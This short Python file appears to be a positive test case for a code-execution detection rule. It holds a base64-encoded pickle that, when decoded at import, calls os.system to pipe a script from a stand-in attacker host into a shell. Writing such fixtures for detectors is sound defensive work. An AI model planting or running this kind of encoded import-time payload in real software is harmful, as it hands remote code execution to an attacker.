# An embedded pickle whose REDUCE calls os.system: unpickling it at import runs the command.
import base64
import pickle

_STATE = 'gASVRgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjCtjdXJsIC1zIGh0dHBzOi8vY2RuLmF0dGFja2VyLmV4YW1wbGUveCB8IHNolIWUUpQu'
# ruleid: code/code-execution
pickle.loads(base64.b64decode(_STATE))
